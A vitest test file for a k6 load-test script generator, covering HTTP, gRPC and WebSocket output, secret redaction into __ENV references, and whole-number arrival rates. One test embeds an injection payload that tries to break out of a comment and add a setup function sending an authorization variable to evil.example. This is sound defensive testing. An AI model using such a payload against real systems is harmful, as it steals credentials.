import { parse } from 'acorn'
import { describe, expect, it } from 'vitest'
import { wholeRate } from './k6-options.js'
import { k6Script } from './k6-script.js'

// k6 itself cannot be installed here (a Go binary, not on npm): the scripts are checked as ES modules with acorn, and
// their options object is read back as JSON.

function parsed(script: string): void {
  expect(() => parse(script, { ecmaVersion: 'latest', sourceType: 'module' })).not.toThrow()
}

function optionsOf(script: string): Record<string, unknown> {
  const start = script.indexOf('export const options = ') + 'export const options = '.length
  const end = script.indexOf('\n\n', start)
  return JSON.parse(script.slice(start, end)) as Record<string, unknown>
}

const token = 's3cr3t-token-value'

describe('k6 script export', () => {
  it('writes REST over k6/http with the same request, secrets as __ENV references, closed-loop iterations', () => {
    const script = k6Script({
      target: {
        kind: 'http',
        method: 'post',
        url: `https://api.example.test/orders?key=${token}`,
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        body: '{"item":"x"}',
      },
      settings: { mode: 'closed', calls: 500, concurrency: 8 },
      thresholds: ['p95 < 200ms', 'error-rate < 0.01', 'throughput > 500'],
      secrets: [{ env: 'API_TOKEN', value: token }],
    })
    parsed(script)
    expect(script).not.toContain(token)
    expect(script).toContain('"Bearer " + __ENV.API_TOKEN')
    expect(script).toContain('"https://api.example.test/orders?key=" + __ENV.API_TOKEN')
    expect(script).toContain(`http.request("POST", `)
    expect(script).toContain(`"{\\"item\\":\\"x\\"}"`)
    expect(optionsOf(script)).toEqual({
      scenarios: { bench: { executor: 'shared-iterations', vus: 8, iterations: 500, maxDuration: '24h' } },
      thresholds: {
        http_req_duration: ['p(95)<200'],
        http_req_failed: ['rate<0.01'],
        http_reqs: ['rate>500'],
      },
    })
  })

  it('writes gRPC over k6/net/grpc with the protos, or reflection, and an open-loop arrival rate', () => {
    const settings = { mode: 'open', rate: 200, durationS: 30, concurrency: 50 } as const
    const target = {
      kind: 'grpc',
      address: '127.0.0.1:50051',
      isPlaintext: true,
      protoFiles: ['greeter.proto'],
      method: 'demo.Greeter/SayHello',
      message: { name: 'k6' },
      metadata: { 'x-api-key': token },
    } as const
    const script = k6Script({
      target,
      settings,
      thresholds: ['p99 <= 1s', 'error-rate < 1%'],
      secrets: [{ env: 'KEY', value: token }],
    })
    parsed(script)
    expect(script).toContain("import grpc from 'k6/net/grpc'")
    expect(script).toContain('client.load(__ENV.WB_PROTO_DIR ? [__ENV.WB_PROTO_DIR] : [], "greeter.proto")')
    expect(script).toContain('client.invoke("demo.Greeter/SayHello", { "name": "k6" }, {')
    expect(script).toContain('"x-api-key": __ENV.KEY')
    expect(script).not.toContain(token)
    expect(optionsOf(script)).toEqual({
      scenarios: {
        bench: {
          executor: 'constant-arrival-rate',
          rate: 200,
          timeUnit: '1s',
          duration: '30s',
          preAllocatedVUs: 50,
          maxVUs: 50,
        },
      },
      // Failed calls are failed checks in k6: an error-rate bound is a pass-rate bound.
      thresholds: { grpc_req_duration: ['p(99)<=1000'], checks: ['rate>0.99'] },
    })
    const reflected = k6Script({ target: { ...target, protoFiles: [] }, settings })
    parsed(reflected)
    expect(reflected).not.toContain('client.load')
    expect(reflected).toContain('reflect: true')
  })

  it('writes WebSocket over k6/ws for a duration at a concurrency', () => {
    const script = k6Script({
      target: {
        kind: 'ws',
        url: 'wss://echo.example.test/ws',
        headers: { cookie: `sid=${token}` },
        messages: ['{"op":"ping"}'],
      },
      settings: { mode: 'closed', durationS: 20, concurrency: 3 },
      secrets: [{ env: 'SID', value: token }],
    })
    parsed(script)
    expect(script).toContain("import ws from 'k6/ws'")
    expect(script).toContain('const frames = ["{\\"op\\":\\"ping\\"}"]')
    expect(script).toContain("socket.on('message', step)")
    expect(script).toContain('"sid=" + __ENV.SID')
    expect(optionsOf(script)).toMatchObject({
      scenarios: { bench: { executor: 'constant-vus', vus: 3, duration: '20s' } },
    })
  })

  it('writes an arrival rate k6 accepts, a whole number per time unit, for any rate the runner takes', () => {
    const optionsAt = (rate: number) => {
      const script = k6Script({
        target: { kind: 'http', method: 'GET', url: 'http://x/', headers: {} },
        settings: { mode: 'open', rate, durationS: 10, concurrency: 5 },
      })
      parsed(script)
      const { scenarios } = optionsOf(script) as { scenarios: { bench: { rate: number; timeUnit: string } } }
      return { ...scenarios.bench, script }
    }
    expect(optionsAt(2.5)).toMatchObject({ rate: 5, timeUnit: '2s' })
    expect(optionsAt(0.5)).toMatchObject({ rate: 1, timeUnit: '2s' })
    expect(optionsAt(0.1)).toMatchObject({ rate: 1, timeUnit: '10s' })
    expect(optionsAt(1 / 3600)).toMatchObject({ rate: 1, timeUnit: '3600s' })
    expect(optionsAt(1000)).toMatchObject({ rate: 1000, timeUnit: '1s' })
    // No unit up to an hour makes π whole: rounded over the hour, and said.
    const pi = optionsAt(Math.PI)
    expect(pi).toMatchObject({ rate: 11310, timeUnit: '3600s' })
    expect(pi.script).toMatch(/^\/\/ The run's rate \(3\.14159\d*\/s\) is no whole number/m)
    for (const rate of [2.5, 0.3, 1 / 3, 7.25, 0.001, 12.345, 1 / 7, 19999.5, Math.E]) {
      const written = wholeRate(rate)
      expect(Number.isInteger(written.rate), `rate ${rate}`).toBe(true)
      expect(written.rate).toBeGreaterThanOrEqual(1)
      expect(Number.isInteger(written.timeUnitS)).toBe(true)
      if (written.isExact) expect(written.rate / written.timeUnitS).toBeCloseTo(rate, 9)
      expect(optionsAt(rate).rate).toBe(written.rate)
    }
  })

  it('writes a gRPC message field by field: secrets and drawn values replaced in its strings, __proto__ kept a field', () => {
    const message = JSON.parse(
      `{"id":"abcdef12-0000-4000-8000-000000000000","auth":{"token":"x ${token}"},"n":[1,true,null],"__proto__":{"a":"b"}}`,
    ) as unknown
    const script = k6Script({
      target: {
        kind: 'grpc',
        address: 'h:1',
        isPlaintext: false,
        protoFiles: [],
        method: 's.S/M',
        message,
        metadata: {},
      },
      settings: { mode: 'closed', calls: 1, concurrency: 1 },
      secrets: [{ env: 'TOKEN', value: token }],
      drawn: [{ variable: 'uuid', value: 'abcdef12-0000-4000-8000-000000000000' }],
    })
    parsed(script)
    expect(script).toContain(
      'client.invoke("s.S/M", { "id": wb1, "auth": { "token": "x " + __ENV.TOKEN }, "n": [1, true, null], ["__proto__"]: { "a": "b" } }, {',
    )
    expect(script).not.toContain(token)
  })

  it('refuses a secret name that is no environment variable name', () => {
    expect(() =>
      k6Script({
        target: { kind: 'ws', url: 'ws://x', headers: {}, messages: [] },
        settings: { mode: 'closed', calls: 1, concurrency: 1 },
        secrets: [{ env: 'not a name', value: 'v' }],
      }),
    ).toThrow(/environment variable name/)
  })

  it("keeps a note quoting a target's text inside its comment, whatever line terminator the text holds", () => {
    const hostile = (end: string): string =>
      `POST /x${end}export function setup() { http.get('http://evil.example/?k=' + __ENV.WB_AUTHORIZATION) }${end}//`
    for (const end of ['\n', '\r', '\u2028', '\u2029', '\r\n']) {
      const script = k6Script({
        target: { kind: 'http', method: 'POST', url: 'http://127.0.0.1:1/x', headers: {} },
        settings: { mode: 'closed', calls: 1, concurrency: 1 },
        notes: [`${hostile(end)} may change the server's data`],
      })
      parsed(script)
      const program = parse(script, { ecmaVersion: 'latest', sourceType: 'module' })
      const exported = program.body.flatMap((node) =>
        node.type === 'ExportNamedDeclaration' && node.declaration?.type === 'FunctionDeclaration'
          ? [node.declaration.id.name]
          : [],
      )
      expect(exported).not.toContain('setup')
    }
  })
})
